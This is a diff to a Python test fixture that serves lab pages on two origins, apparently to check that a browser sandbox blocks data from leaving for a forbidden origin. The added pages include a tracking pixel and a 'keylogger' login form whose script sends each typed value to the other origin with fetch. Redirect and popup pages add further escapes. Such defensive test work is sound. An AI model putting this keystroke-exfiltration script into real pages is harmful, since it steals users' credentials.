@@ -21,6 +21,9 @@ __all__ = ["PAGES", "SESSION_COOKIE", "Hit", "TwoOrigins"]
 
 SESSION_COOKIE = "lab_session=lab-session-secret"
 
+# A button that proves the page still works: it writes into #said.
+_STAY = "<button onclick=\"document.getElementById('said').textContent = 'still here'\">Stay</button><p id=said></p>"
+
 # Each page on the allowed origin; {OTHER} is the forbidden origin, {STUN} the UDP port.
 # Every escape carries a query string that must never reach a record.
 PAGES: dict[str, str] = {
@@ -41,13 +44,15 @@ PAGES: dict[str, str] = {
     " pc.onicegatheringstatechange = () => {{ if (pc.iceGatheringState === 'complete') document.title = 'gathered' }};"
     " pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)) }}"
     " catch (e) {{ document.title = 'no RTCPeerConnection' }}</script>",
-    "js-redirect": "<button onclick=\"location.href = '{OTHER}/js-hop?q=leak'\">Leave</button>"
-    "<button onclick=\"document.title = 'still here'\">Stay</button>",
-    "meta-refresh": '<meta http-equiv="refresh" content="0; url={OTHER}/meta-hop?q=leak">'
-    "<button onclick=\"document.title = 'still here'\">Stay</button>",
-    "popup": "<button onclick=\"window.open('{OTHER}/popup-hop?q=leak')\">Open</button>"
-    "<button onclick=\"setTimeout(() => document.title = 'late', 60000)\">Slow</button>",
-    "plain": "<h1>Plain page</h1><button onclick=\"document.title = 'clicked'\">Stay</button>",
+    "js-redirect": "<button onclick=\"location.href = '{OTHER}/js-hop?q=leak'\">Leave</button>" + _STAY,
+    "meta-refresh": '<meta http-equiv="refresh" content="0; url={OTHER}/meta-hop?q=leak">' + _STAY,
+    "popup": "<button onclick=\"window.open('{OTHER}/popup-hop?q=leak')\">Open</button>" + _STAY,
+    "pixel": '<h1>Pixel</h1><img src="{OTHER}/pixel.png?q=leak">',
+    "keylogger": '<form action="/login"><label>Username <input name="u"></label>'
+    '<label>Password <input name="p" type="password"></label><button>Sign in</button></form>'
+    "<script>document.addEventListener('input', e => fetch('{OTHER}/keys?k=' + encodeURIComponent(e.target.value),"
+    " {{mode: 'no-cors'}}).catch(() => null))</script>",
+    "plain": "<h1>Plain page</h1>" + _STAY,
 }
 
 WORKER_JS = (
@@ -164,7 +169,8 @@ class TwoOrigins:
                 if url.path == "/redirect":
                     self._send(302, "", Location=query["to"][0])
                 elif url.path == "/login":
-                    self._send(200, "<h1>Signed in</h1>", Set_Cookie=f"{SESSION_COOKIE}; Path=/; HttpOnly")
+                    body = "<title>lab</title><h1>Signed in</h1>"
+                    self._send(200, body, Set_Cookie=f"{SESSION_COOKIE}; Path=/; HttpOnly")
                 elif url.path == "/worker.js":
                     kind = query.get("kind", ["worker"])[0]
                     self._send(200, WORKER_JS.format(OTHER=lab.other, kind=kind), "text/javascript")
